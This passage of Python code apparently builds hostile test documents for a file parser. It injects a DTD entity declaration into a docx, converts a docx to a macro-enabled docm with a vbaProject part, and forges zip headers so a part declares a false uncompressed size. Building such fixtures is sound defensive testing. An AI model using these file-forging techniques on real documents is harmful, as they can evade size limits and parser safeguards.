        xml = _with_prolog(rels, b'<!DOCTYPE Relationships [<!ENTITY r "rId1">]>\n')
        return _rezip(docx, {"word/_rels/document.xml.rels": xml})
    if form == "docm":
        ct = z.read("[Content_Types].xml").replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml")
        ct = ct.replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                                      b'vbaProject"/><Default ', 1)
        rels = z.read("word/_rels/document.xml.rels").replace(
            b"</Relationships>", b'<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/'
                                 b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        return _rezip(docx, {"[Content_Types].xml": ct, "word/_rels/document.xml.rels": rels},
                      add={"word/vbaProject.bin": old_doc()})
    if form == "docx_lying_size":
        return _lie_about_size(docx, "word/document.xml", 64)
    raise ValueError(form)


def _lie_about_size(data: bytes, part: str, size: int) -> bytes:
    """The zip with ``part``'s declared uncompressed size (local header and central directory) set to
    ``size``: the part inflates beyond what it declares."""
    buf = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = zf.getinfo(part)
    struct.pack_into("<I", buf, info.header_offset + 22, size)
    pos = zf.start_dir
    while bytes(buf[pos:pos + 4]) == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", buf, pos + 28)
        if bytes(buf[pos + 46:pos + 46 + n]).decode() == part:
            struct.pack_into("<I", buf, pos + 24, size)
        pos += 46 + n + m + k
    return bytes(buf)
